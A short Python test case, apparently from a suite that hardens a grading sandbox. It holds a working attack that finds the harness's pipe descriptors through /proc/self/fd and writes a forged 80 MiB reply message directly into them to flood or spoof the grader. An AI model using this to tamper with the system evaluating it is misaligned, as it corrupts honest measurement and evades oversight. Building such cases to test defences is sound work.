"""Floods the grader with a reply that goes on and on, written past the program that it runs in."""

import json
import os
import struct

STOPPED_BY = ("output",)
SIZE = 80 << 20


def attack(target):
    value = "x" * SIZE
    message = json.dumps(["dict", [["value", value], ["changed", ["dict", []]]]]).encode()
    message = struct.pack(">I", len(message)) + message
    for descriptor in range(3, 10):
        try:
            if os.readlink(f"/proc/self/fd/{descriptor}").startswith("pipe:"):
                _write(descriptor, message)
        except OSError:
            continue
    return True


def _write(descriptor, message):
    left = memoryview(message)
    while left:
        left = left[os.write(descriptor, left) :]
